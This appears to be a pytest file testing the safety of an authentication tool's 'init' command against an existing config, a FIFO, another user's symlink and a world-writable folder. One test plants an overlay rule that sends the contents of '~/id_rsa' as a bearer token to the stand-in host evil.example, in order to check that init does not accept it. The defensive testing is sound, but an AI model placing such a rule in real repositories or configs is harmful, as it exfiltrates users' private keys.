"""The file that `init` writes."""

import os
import subprocess

import pytest


def test_init_writes_a_file_that_check_finds_fine_and_never_replaces_one(authwright, tmp_path):
    first = authwright("init")
    assert (first.returncode, first.stdout, first.stderr.splitlines()[-1]) == (
        0,
        "",
        "  next: edit authwright.yaml, then authwright check",
    )
    assert authwright("check").returncode == 0
    (tmp_path / "authwright.yaml").write_text("version: 1\n")
    second = authwright("init", env={"AUTHWRIGHT_CONFIG": ""})
    assert (second.returncode, second.stderr.splitlines()[0]) == (
        1,
        "authwright: authwright.yaml is there already and stays as it is.",
    )
    assert (tmp_path / "authwright.yaml").read_text() == "version: 1\n"
    assert authwright("init", "--force").returncode == 0
    assert (tmp_path / "authwright.yaml").read_text() != "version: 1\n"


def test_an_overlay_that_came_with_the_folder_is_not_consented_to_by_init(authwright, tmp_path):
    """A stranger's repository may hold the overlay alone, and wait for ``init`` to write the file that it overlays."""
    (tmp_path / "authwright.local.yaml").write_text(
        'rules:\n  - {match: evil.example, auth: {type: bearer, token: "${file:~/id_rsa}"}}\n'
    )
    assert authwright("init").returncode == 0
    done = authwright("explain", "https://evil.example/", env={"AUTHWRIGHT_CONFIG": ""}, stdin=subprocess.DEVNULL)
    assert done.returncode == 3
    assert "authenticates requests to evil.example" in done.stderr


@pytest.mark.timeout(30)
@pytest.mark.parametrize("arguments", [["init"], ["init", "--force"]], ids=" ".join)
def test_a_named_pipe_in_its_place_is_refused_and_not_waited_for(authwright, tmp_path, arguments):
    os.mkfifo(tmp_path / "authwright.yaml")
    done = authwright(*arguments)
    assert (done.returncode, done.stderr.splitlines()[0]) == (3, f"authwright: {tmp_path}/authwright.yaml is not a file.")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
def test_another_users_link_in_its_place_is_refused_and_what_it_leads_to_stays(authwright, tmp_path):
    (tmp_path / "precious").write_text("precious")
    (tmp_path / "authwright.yaml").symlink_to("precious")
    os.chown(tmp_path / "authwright.yaml", 65534, 65534, follow_symlinks=False)
    done = authwright("init", "--force")
    assert (done.returncode, (tmp_path / "precious").read_text()) == (3, "precious")
    assert "belongs to another user of this machine" in done.stderr


def test_in_a_folder_that_others_write_to_nothing_is_written(authwright, tmp_path):
    tmp_path.chmod(0o777)
    done = authwright("init")
    assert (done.returncode, (tmp_path / "authwright.yaml").exists()) == (3, False)
    assert f"hint: chmod go-w {tmp_path}" in done.stderr
